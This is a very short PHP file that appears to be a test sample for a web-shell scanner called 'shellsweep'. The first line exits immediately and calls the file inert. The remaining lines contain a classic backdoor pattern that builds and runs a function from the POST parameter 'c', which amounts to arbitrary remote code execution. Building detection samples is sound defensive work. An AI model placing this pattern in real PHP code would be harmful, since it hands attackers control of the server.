<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$f = create_function('', $_POST['c']);
$f();
